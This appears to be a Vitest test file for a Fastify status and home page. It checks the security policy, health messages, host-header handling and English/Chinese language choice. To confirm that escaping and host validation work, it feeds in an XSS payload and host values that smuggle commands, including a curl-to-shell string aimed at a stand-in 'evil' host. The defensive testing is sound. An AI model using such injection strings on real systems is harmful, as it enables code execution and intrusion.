import Fastify from 'fastify'
import { expect, test } from 'vitest'
import type { HealthCheck } from './health.ts'
import { homePage, serveHome } from './home.ts'
import { languageOf, languages } from './messages.ts'

const well: HealthCheck[] = [{ name: 'journal', ok: true, text: 'It writes' }]
const address = 'http://127.0.0.1:8080'
const counts = { gateways: 0, devices: 0, openOrders: 0 }

async function page(url: string, headers: Record<string, string> = {}, checks = well) {
  const app = Fastify()
  const operations = { ping: async () => {}, counts: async () => counts }
  await serveHome(app, { operations, health: () => ({ checks }) })
  const response = await app.inject({ url, headers })
  await app.close()
  return response
}

test('it is one page without script, and its policy allows its own style and nothing else', async () => {
  const { body, headers } = await page('/')
  expect(headers['content-type']).toBe('text/html; charset=utf-8')
  expect(headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'sha256-[\w+/=]+';/)
  expect(body).not.toMatch(/<script|\son\w+=|https?:\/\/(?!localhost)/)
  expect(body).toContain('width=device-width')
})

test('a new installation is told how to add its first gateway, then its first device, then where its orders are', () => {
  expect(homePage('en', well, counts, address)).toMatch(/gateway add gw-1.*api\/v1\/gateways/s)
  expect(homePage('en', well, { ...counts, gateways: 1 }, address)).toMatch(/api\/v1\/devices/)
  const running = homePage('en', well, { gateways: 2, devices: 3, openOrders: 4 }, address)
  expect(running).toMatch(/api\/v1\/work-orders/)
  expect(running).toMatch(/<dt>Gateways<\/dt><dd>2<.*<dt>Devices<\/dt><dd>3<.*<dt>Open orders<\/dt><dd>4</s)
  expect(homePage('en', well, undefined, address)).toContain('<dd>unknown</dd>')
})

test('what does not work is named; when all is well, nothing is', async () => {
  const failing = [...well, { name: '<b>disk</b>', ok: false, text: 'is "full" & <img src=x onerror=alert(1)>' }]
  const { body } = await page('/', {}, failing)
  expect(body).toContain('No. This does not work')
  expect(body).toContain('&#60;img src=x')
  expect(body).not.toMatch(/<img|<b>disk/)
  expect((await page('/')).body).toContain('Yes, everything works')
})

test('a host that is not one is not repeated', async () => {
  expect((await page('/', { host: 'liftwatt.example:8443' })).body).toContain('http://liftwatt.example:8443/api/v1')
  for (const host of ["x';curl evil|sh;'", '"><script>', 'a b', 'x$(id)']) {
    const { body } = await page('/', { host })
    expect(body).toContain('http://127.0.0.1:8080/api/v1')
    expect(body).not.toContain(host)
  }
})

test.each([
  [undefined, 'zh-CN,zh;q=0.9,en;q=0.8', 'zh-CN'],
  [undefined, 'zh-Hans', 'zh-CN'],
  [undefined, 'fr, zh;q=0.2, en;q=0.7', 'en'],
  [undefined, 'en;q=0.1, zh;q=0.9', 'zh-CN'],
  [undefined, 'zh;q=0, en', 'en'],
  [undefined, 'de', 'en'],
  [undefined, undefined, 'en'],
  ['zh-CN', 'en', 'zh-CN'],
  ['en', 'zh-CN', 'en'],
  ['xx', 'zh-CN', 'zh-CN'],
] as const)('?lang=%s and Accept-Language %s: %s', async (query, accepted, language) => {
  expect(languageOf(query, accepted)).toBe(language)
  const headers = accepted === undefined ? {} : { 'accept-language': accepted }
  const { body } = await page(query === undefined ? '/' : `/?lang=${query}`, headers)
  expect(body).toContain(`<html lang="${language}">`)
  expect(body).toContain(languages[language].healthTitle)
})

test('every sentence is there in both languages', () => {
  expect(Object.keys(languages['zh-CN'])).toEqual(Object.keys(languages.en))
  expect(Object.values(languages['zh-CN']).every((text) => text.length > 0)).toBe(true)
})
